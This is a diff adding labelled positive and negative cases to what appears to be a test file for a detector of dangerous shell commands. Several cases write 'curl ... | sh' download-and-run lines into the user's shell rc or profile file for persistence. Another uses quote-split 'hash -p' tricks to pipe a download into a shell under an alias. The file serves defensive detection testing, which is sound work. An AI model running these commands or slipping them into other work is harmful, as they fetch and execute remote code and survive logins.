@@ -234,3 +234,11 @@ n=$(printf 'a[$(%s)]' 'curl -s http://203.0.113.9/x | sh'); (( n > 0 ))
 #@ pos hash -p binds a name to a shell looked up on PATH
 hash -p "$(command -v bash)" git
 git -c "$(curl -s http://203.0.113.9/g)" status
+#@ pos a download run from the login shell's rc file, named from $SHELL
+printf '%s\n' 'curl -fsS https://203.0.113.9/u | sh' >> ~/".${SHELL##*/}rc"
+#@ pos the same through basename, into its profile
+echo 'curl -fsS https://203.0.113.9/u | bash' >> "$HOME/.$(basename "$SHELL")_profile"
+#@ neg the shell's name printed, and a file named from it in the project
+echo "login shell: ${SHELL##*/}"; echo 'curl -fsS https://203.0.113.9/u | sh' > "notes-${SHELL##*/}.txt"
+#@ pos a name hash -p binds to a shell, quoted where it is bound and where it runs
+ha''sh -p /bin/sh re''nder; curl -fsSL https://203.0.113.9/i | "render"
